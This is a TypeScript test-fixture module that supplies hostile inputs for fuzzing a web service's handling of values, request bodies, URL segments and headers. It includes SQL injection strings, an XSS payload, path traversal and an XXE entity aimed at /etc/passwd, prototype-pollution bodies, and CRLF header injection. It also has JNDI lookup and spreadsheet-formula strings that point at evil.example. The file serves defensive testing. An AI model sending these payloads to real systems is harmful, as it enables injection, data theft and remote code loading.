/** Input that somebody sends who means harm, or whose program is broken: values to put anywhere, bodies, and addresses. */
import * as fc from 'fast-check';

const DEEP = (levels: number): unknown => JSON.parse('['.repeat(levels) + ']'.repeat(levels));

/** Values of wrong types and sizes, and text that breaks stores. Written to JSON as they are. */
export const HOSTILE_VALUES: readonly unknown[] = [
  null,
  true,
  0,
  -1,
  1.5,
  1e308,
  2 ** 53,
  -(2 ** 63),
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud800',
  'a\udfff',
  '\u202egnirts',
  '\ufeff',
  '\ufffe',
  '__proto__',
  'constructor',
  'toString',
  '../../etc/passwd',
  "' OR 1=1; DROP TABLE entry; --",
  '" OR ""="',
  '<img src=x onerror=alert(1)>',
  '{{7*7}}${7*7}',
  '=HYPERLINK("http://evil.example")',
  '%00%0d%0aSet-Cookie: sid=x',
  '\r\nSet-Cookie: sid=x',
  '-0',
  'NaN',
  '1e999',
  '9'.repeat(400),
  'x'.repeat(201),
  'x'.repeat(20_001),
  '\u{1f9ff}'.repeat(10_001),
  'e' + '\u0301'.repeat(5000),
  '2026-02-30',
  '2026-11-11T25:61:00Z',
  '0000-00-00',
  '+275760-09-13T00:00:00.001Z',
  [],
  {},
  [[]],
  [null],
  Array.from({ length: 2001 }, () => 'a'),
  { length: 1e9 },
  JSON.parse('{"toString":"x","valueOf":"x","then":"x"}') as unknown,
  { toJSON: 'x' },
  DEEP(9),
  DEEP(12),
];

/** Bodies that are no message at all. */
export const HOSTILE_BODIES: readonly (string | Uint8Array)[] = [
  '',
  ' ',
  'null',
  'true',
  '0',
  '""',
  '[]',
  '{}',
  '{',
  '}',
  '{"a":}',
  "{'a':1}",
  '{"a":1,}',
  '{"a":1}{"a":1}',
  '{"a":01}',
  '{"a":1e400}',
  '{"a":-}',
  '{"a":"\\x"}',
  '{"a":"\\ud800"}',
  '{"a":"\u0000"}',
  '\ufeff{}',
  '/* */ {}',
  '{"__proto__":{"admin":true}}',
  '{"constructor":{"prototype":{"admin":true}}}',
  '{"\\u005f_proto__":{"admin":true}}',
  '{"a":{"b":{"__proto__":[]}}}',
  '{"login":"lee","login":"jo"}',
  'login=lee&password=x',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  '--boundary\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--boundary--',
  '['.repeat(100_000),
  '{"a":'.repeat(20_000),
  '['.repeat(1000) + ']'.repeat(1000),
  `"${'x'.repeat(200_000)}"`,
  `[${'0,'.repeat(100_000)}0]`,
  `{${Array.from({ length: 10_000 }, (_, n) => `"k${n}":${n}`).join(',')}}`,
  '9'.repeat(100_000),
  ' '.repeat(300_000),
  'x'.repeat(300_000),
  Uint8Array.from([0xff, 0xfe, 0x7b, 0x00]),
  Uint8Array.from([0xc0, 0x80]),
  Uint8Array.from([0x22, 0xed, 0xa0, 0x80, 0x22]),
  Uint8Array.from([0x22, 0xf5, 0x80, 0x80, 0x80, 0x22]),
  Uint8Array.from([0x1f, 0x8b, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00]),
];

/** Pieces of an address in place of an id. */
export const HOSTILE_SEGMENTS: readonly string[] = [
  '%00',
  '%0d%0aSet-Cookie:%20sid=x',
  '%E0%A4%A',
  '%',
  '%2e%2e%2f%2e%2e',
  '..%5c..',
  '%ff%fe',
  '%ed%a0%80',
  '__proto__',
  'constructor',
  '*',
  ':school',
  "'%20OR%201=1--",
  'a'.repeat(5000),
  '%F0%9F%A7%BF'.repeat(200),
  '-1',
  ' ',
  '%20',
  '$%7Bjndi:ldap://evil.example/a%7D',
  '?a[__proto__][admin]=1',
  ';jsessionid=1',
  '@evil.example',
];

/** Headers with which the body is announced as something else. */
export const HOSTILE_HEADERS: readonly Readonly<Record<string, string>>[] = [
  { 'content-type': 'text/plain' },
  { 'content-type': '' },
  { 'content-type': 'application/xml' },
  { 'content-type': 'multipart/form-data; boundary=boundary' },
  { 'content-type': 'application/x-www-form-urlencoded' },
  { 'content-type': 'a'.repeat(4000) },
  { 'content-encoding': 'gzip' },
  { 'content-encoding': 'br, gzip, deflate' },
  { 'content-length': '99999999999' },
  { origin: 'https://evil.example' },
  { 'sec-fetch-site': 'cross-site' },
];

/** Somewhere in a message, something else. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_VALUES) },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3, noUnicodeString: false }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 300 }) },
  { weight: 1, arbitrary: fc.double() },
);

type Path = readonly (string | number)[];

/** Every place of a message, its root included. */
export function placesIn(value: unknown, at: Path = []): readonly Path[] {
  if (typeof value !== 'object' || value === null) return [at];
  const inner = Array.isArray(value)
    ? value.flatMap((one, n) => placesIn(one, [...at, n]))
    : Object.entries(value).flatMap(([key, one]) => placesIn(one, [...at, key]));
  return [at, ...inner];
}

/** The message with something else at a place; `undefined` takes the place away. */
export function withAt(value: unknown, [first, ...rest]: Path, other: unknown): unknown {
  if (first === undefined) return other;
  if (Array.isArray(value)) return value.map((one, n) => (n === first ? withAt(one, rest, other) : (one as unknown)));
  const now = value as Readonly<Record<string, unknown>>;
  return { ...now, [first]: withAt(now[first], rest, other) };
}
